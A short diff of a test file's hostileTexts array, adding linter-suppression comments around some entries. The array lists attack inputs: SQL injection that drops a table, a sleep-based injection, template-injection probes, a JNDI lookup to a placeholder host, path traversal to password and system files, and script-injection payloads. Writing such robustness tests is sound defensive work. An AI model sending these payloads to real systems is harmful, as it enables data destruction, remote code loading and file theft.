@@ -13,8 +13,10 @@ const hostileTexts = [
 	"́".repeat(2_000),
 	"' or 1=1; drop table profiles; --",
 	"\\'; select pg_sleep(5); --",
+	// biome-ignore-start lint/suspicious/noTemplateCurlyInString: other languages fill these in
 	"$1 $$ ${7*7} {{7*7}} <%= 7*7 %> #{7*7} %s%n %00",
 	"${jndi:ldap://x.example/a}",
+	// biome-ignore-end lint/suspicious/noTemplateCurlyInString: other languages fill these in
 	"../../../../etc/passwd",
 	"..\\..\\windows\\win.ini",
 	"<script>alert(1)</script><img src=x onerror=alert(1)>",
